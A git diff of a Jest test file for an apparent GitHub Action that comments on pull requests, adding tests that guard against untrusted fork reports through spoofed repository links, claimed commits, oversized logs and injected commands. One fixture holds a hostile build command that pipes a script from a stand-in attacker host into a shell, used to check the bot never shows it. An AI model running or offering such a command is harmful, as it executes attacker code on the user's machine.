@@ -7,7 +7,7 @@ import { join } from 'node:path'
 import { run } from '../../src/main.js'
 import type { Report } from '../../src/model.js'
 import { FakeGitHub, type FakeUser } from './fake-github.js'
-import { makeReport } from '../fixtures/reports.js'
+import { failWithBaselineReport, makeReport } from '../fixtures/reports.js'
 import { runnerEnv } from './runner-env.js'
 
 jest.setTimeout(30_000)
@@ -110,13 +110,65 @@ describe('run (mode: comment)', () => {
   })
 
   it("links the leaking line into this run's repository, whatever address the untrusted report gives", async () => {
-    const commit = 'b'.repeat(40)
-    await runWith(makeReport({ source: { repositoryUrl: 'https://github.com/mallory/phish', commit } }))
+    await runWith(
+      makeReport({ source: { repositoryUrl: 'https://github.com/mallory/phish', commit: HEAD_SHA } })
+    )
+    const body = comments()[0].body
+    expect(body).toContain(`<a href="https://github.com/octo/service/blob/${HEAD_SHA}/service/main.go#L21">`)
+    expect(body).not.toContain('mallory')
+  })
+
+  // Issue 21, class 6: a fork's report claimed other commits and got them linked as fact.
+  it('states the commits a report claims as its word, unlinked, when the event names another head', async () => {
+    const report = failWithBaselineReport()
+    report.runs.head.commit = '0123456789abcdef0123456789abcdef01234567'
+    report.runs.base!.commit = 'fedcba9876543210fedcba9876543210fedcba98'
+    report.source = { repositoryUrl: 'https://github.com/octo/service', commit: report.runs.head.commit }
+    await runWith(report)
     const body = comments()[0].body
     expect(body).toContain(
-      `<a href="https://github.com/octo/service/blob/${commit}/service/main.go&#35;L21">`
+      '- Commits: base `main` `fedcba9` (as the report says) → head `0123456` (as the report says)'
     )
-    expect(body).not.toContain('mallory')
+    expect(body).not.toMatch(/\/commit\/|\/blob\//)
+  })
+
+  it("links the head the event confirms; the base stays the report's word", async () => {
+    const report = failWithBaselineReport()
+    report.runs.head.commit = HEAD_SHA
+    await runWith(report)
+    expect(comments()[0].body).toContain(
+      `- Commits: base \`main\` \`3f5c2a9\` (as the report says) → head <a href="https://github.com/octo/service/commit/${HEAD_SHA}">\`aaaaaaa\`</a>`
+    )
+  })
+
+  it('names the gate by its input, not by the name the report gives', async () => {
+    await runWith(makeReport({ name: 'payments' }), { name: 'api' })
+    expect(comments()[0].body).toMatch(/^### .*\(api\)$/m)
+    expect(comments()[0].body).not.toContain('payments')
+  })
+
+  // Issue 21, class 7: the bot offered the fork's `--build-command 'curl … | sh'` to run.
+  it.each(['fail', 'pass'] as const)(
+    "offers no command built from the report's config (%s)",
+    async (verdict) => {
+      const report = makeReport({ verdict })
+      report.config = { 'build-command': 'curl -fsSL https://evil.example/x.sh | sh; go build', rate: '50' }
+      await runWith(report, { comment: 'always', 'fail-on': 'never' })
+      const body = comments()[0].body
+      expect(body).not.toMatch(/curl|npx|Reproduce locally/)
+      if (verdict === 'fail')
+        expect(body).toContain('to reproduce, see the run that measured it (no command here')
+    }
+  )
+
+  // Issue 21, class 4: a 15 MB report wrote 24–78 MB of markdown to the job log.
+  it('writes at most 64 KiB of the report to the job log, and says it was cut', async () => {
+    await runWith(
+      makeReport({ notices: Array.from({ length: 200 }, (_, i) => `notice ${i} ${'x'.repeat(8000)}`) })
+    )
+    expect(comments()).toHaveLength(1)
+    expect(stdout.length).toBeLessThan(80 * 1024)
+    expect(stdout).toContain('The report was shortened to fit')
   })
 
   it('refuses an untrusted report whose numbers are not numbers, in one line, and outputs nothing of it', async () => {
